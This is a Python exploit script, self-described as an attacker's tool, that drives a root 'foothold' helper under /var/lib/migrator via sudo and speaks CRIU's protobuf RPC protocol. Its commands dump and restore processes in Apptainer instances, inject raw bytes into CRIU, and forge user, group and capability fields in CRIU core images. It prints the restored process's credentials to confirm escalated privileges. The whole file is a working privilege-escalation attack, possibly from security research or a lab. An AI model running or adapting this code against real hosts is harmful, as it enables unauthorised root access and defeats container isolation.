"""What an attacker would say to the root entry: speaks with the foothold (foothold.c) and, through it, with criu.

entry.py INSTANCE VERB ...
  dump IMAGES PID        criu's dump, let go at its hold: the images are complete, the job runs on
  restore IMAGES PID     criu's restore to the last moment; prints the credentials of the process, then lets go
  ask IMAGES HEX         sends one message to a criu that was started for a dump, and prints what comes
  raw IMAGES HEX         sends these bytes, no packet around them, and prints the kinds of what comes
  args WORD...           starts the foothold with these words after -t and -s
forge FILE FIELD=NUMBER...  changes credentials in a core image, by the field numbers of creds.proto
"""
import glob, json, os, struct, subprocess, sys

BASE = "/var/lib/migrator"


def number(value):
    out = b""
    while True:
        out += bytes([value & 127 | (128 if value > 127 else 0)])
        value >>= 7
        if not value:
            return out


def field(tag, value):
    return number(tag << 3) + number(value) if isinstance(value, int) else number(tag << 3 | 2) + number(len(value)) + value


def parse(data):
    at, found = 0, []

    def varint():
        nonlocal at
        value = shift = 0
        while True:
            byte = data[at]
            at += 1
            value |= (byte & 127) << shift
            shift += 7
            if byte < 128:
                return value

    while at < len(data):
        tag = varint()
        if tag & 7 == 0:
            found.append((tag >> 3, varint()))
        elif tag & 7 == 2:
            length = varint()
            found.append((tag >> 3, data[at : at + length]))
            at += length
        else:
            raise ValueError("neither a number nor bytes")
    return found


def encode(fields):
    return b"".join(field(tag, value) for tag, value in fields)


def forge(path, changes):
    data = open(path, "rb").read()
    core = parse(data[12:])
    thread = parse(dict(core)[5])
    creds = parse(dict(thread)[10])
    for change in changes:
        tag, values = change.split("=")
        creds = [(t, v) for t, v in creds if t != int(tag)]
        creds += [(int(tag), int(value)) for value in values.split(",")]
    thread = [(t, encode(creds) if t == 10 else v) for t, v in thread]
    core = encode([(t, encode(thread) if t == 5 else v) for t, v in core])
    open(path, "wb").write(data[:8] + struct.pack("<I", len(core)) + core)


def appinit(instance):
    name = instance.split("/")[-1]
    record = glob.glob("/home/%s/.apptainer/instances/app/*/*/%s/%s.json" % (instance.split("/")[0], name, name))[0]
    pid = json.load(open(record))["pid"]
    return str(pid), open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[19]


def start(words):
    return subprocess.Popen(["sudo", "-n", BASE + "/foothold"] + words, stdin=subprocess.PIPE, stdout=subprocess.PIPE)


def bundle():
    return max(glob.glob(BASE + "/criu-????????????????"), key=os.path.getmtime)


def packets(process):
    while True:
        head = process.stdout.read(8)
        if len(head) < 8:
            return
        kind, length = struct.unpack("<II", head)
        yield chr(kind), process.stdout.read(length)


def say(process, message):
    process.stdin.write(struct.pack("<II", ord("M"), len(message)) + message)
    process.stdin.flush()


def request(kind, log, more):
    options = [(1, 2**64 - 1), (68, b"/proc/self/fd/7"), (9, 4), (10, log), (12, 1), (34, 0), (64, 3), (67, 1)] + more
    return encode([(1, kind), (2, encode(options))])


def credentials(inside):
    for path in glob.glob("/proc/[0-9]*/status"):
        try:
            lines = dict(line.split(":\t", 1) for line in open(path).read().splitlines() if ":\t" in line)
        except OSError:
            continue
        if lines["NSpid"].split()[1:] == [inside] and lines["Name"] != "ld.so":
            print({k: lines[k].split() for k in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "NoNewPrivs")}, flush=True)


def drive(process, message, inside, until):
    for kind, data in packets(process):
        if kind == "P":
            say(process, message)
        elif kind == "X":
            print("criu ended with", struct.unpack("<I", data)[0], flush=True)
        elif kind == "M":
            answer = parse(data)
            notify = [dict(parse(value))[1].decode() for tag, value in answer if tag == 5]
            if not notify:
                print("criu said", "well" if dict(answer).get(2) else "no", flush=True)
                continue
            if notify[0] == "pre-resume":
                credentials(inside)
            if notify[0] == until:
                print("held at", until, flush=True)
                process.stdin.close()
            else:
                say(process, encode([(1, 6), (3, 1)]))
    print("foothold ended with", process.wait(), flush=True)


def main(words):
    if words[0] == "forge":
        return forge(words[1], words[2:])
    pid, born = appinit(words[0])
    verb, rest = words[1], words[2:]
    if verb == "args":
        process = start(["-t", pid, "-s", born] + rest)
        process.stdin.close()
        process.stdout.read()
        return print("foothold ended with", process.wait())
    common = ["-t", pid, "-s", born, "-i", rest[0], "-b", bundle()]
    if verb == "dump":
        drive(start(common + ["-d"]), request(1, b"dump.log", [(2, int(rest[1]))]), rest[1], "post-dump")
    elif verb == "raw":
        process = start(common + ["-d"])
        process.stdin.write(bytes.fromhex(rest[1]))
        process.stdin.flush()
        for kind, data in packets(process):
            print("entry said", kind, flush=True)
        print("foothold ended with", process.wait(), flush=True)
    elif verb == "restore":
        drive(start(common + ["-l", "20000"]), request(2, b"restore.log", []), rest[1], "pre-resume")
    else:
        drive(start(common + ["-d"]), bytes.fromhex(rest[1]), "", "")


main(sys.argv[1:])
